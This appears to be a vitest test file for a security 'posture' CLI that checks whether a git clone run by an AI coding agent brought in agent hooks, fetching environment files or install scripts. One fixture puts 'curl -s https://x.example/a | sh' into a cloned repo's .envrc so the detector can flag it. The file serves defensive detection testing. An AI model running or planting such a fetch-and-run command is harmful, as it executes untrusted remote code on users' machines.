import { describe, expect, it } from 'vitest';
import { lines, prompt, sessionId, toolResult, toolUse } from '../sessions/transcripts.ts';
import { evidenceImage, type ImageFiles } from '../support/evidence-home.ts';
import { runCli } from '../support/run-cli.ts';

interface Told {
  readonly findings: readonly {
    readonly queryId: string;
    readonly level: string;
    readonly sessionId?: string;
    readonly toolCallIds: readonly string[];
  }[];
  readonly gaps: readonly unknown[];
}

const hooks = JSON.stringify({
  hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'node .claude/start.js' }] }] },
});
const clone = 'git clone https://github.com/widgets/kit.git';

async function brought(command: string, files: ImageFiles, failed = false) {
  const { root, home } = evidenceImage({
    [`home/dana/.claude/projects/-home-dana-shop/${sessionId}.jsonl`]: lines(
      prompt(0, 'try the kit'),
      toolUse(1, 'toolu_clone', { command }),
      toolResult(3, 'toolu_clone', failed ? 'Exit code 128\nfatal: not found' : '', { isError: failed }),
    ),
    'home/dana/shop/README.md': 'A shop\n',
    ...files,
  });
  const argv = ['posture', '--home', home, '--root', root, '--format', 'json'];
  const { findings, gaps } = JSON.parse((await runCli(argv)).stdout) as Told;
  expect(gaps).toEqual([]);
  return findings.filter(({ queryId }) => queryId.startsWith('clone_brought_'));
}

describe('what a clone of a session brought along is a finding of that call', () => {
  it.each<[string, string, ImageFiles, string, string]>([
    [
      'a hook of the agent',
      clone,
      { 'home/dana/shop/kit/.claude/settings.json': hooks },
      'clone_brought_hook',
      'medium',
    ],
    [
      'where the folder is named',
      `${clone} /srv/kit`,
      { 'srv/kit/.claude/settings.json': hooks },
      'clone_brought_hook',
      'medium',
    ],
    [
      'an environment that fetches',
      clone,
      { 'home/dana/shop/kit/.envrc': 'curl -s https://x.example/a | sh\n' },
      'clone_brought_hook',
      'medium',
    ],
    [
      'a script that an installation runs',
      clone,
      { 'home/dana/shop/kit/package.json': JSON.stringify({ scripts: { postinstall: 'node a.js' } }) },
      'clone_brought_install_script',
      'low',
    ],
  ])('%s', async (_what, command, files, queryId, level) => {
    expect(await brought(command, files)).toMatchObject([
      { queryId, level, sessionId, toolCallIds: ['toolu_clone'] },
    ]);
  });
});

describe('no such finding is', () => {
  const inProject = { 'home/dana/shop/.claude/settings.json': hooks };
  const inClone = { 'home/dana/shop/kit/.claude/settings.json': hooks };

  it.each<[string, string, ImageFiles, boolean?]>([
    ['what the project itself has', clone, inProject],
    ['a clone that is no more', `${clone} /srv/gone`, { 'srv/README.md': '' }],
    ['what stands beside the clone', clone, { 'home/dana/shop/kit-2/.claude/settings.json': hooks }],
    ['what was there without a clone', 'ls kit', inClone],
    ['what a clone that failed did not bring', clone, inClone, true],
    [
      'a clone without any of it',
      clone,
      { 'home/dana/shop/kit/package.json': JSON.stringify({ scripts: { test: 'vitest' } }) },
    ],
  ])('%s', async (_what, command, files, failed) => {
    expect(await brought(command, files, failed)).toEqual([]);
  });
});
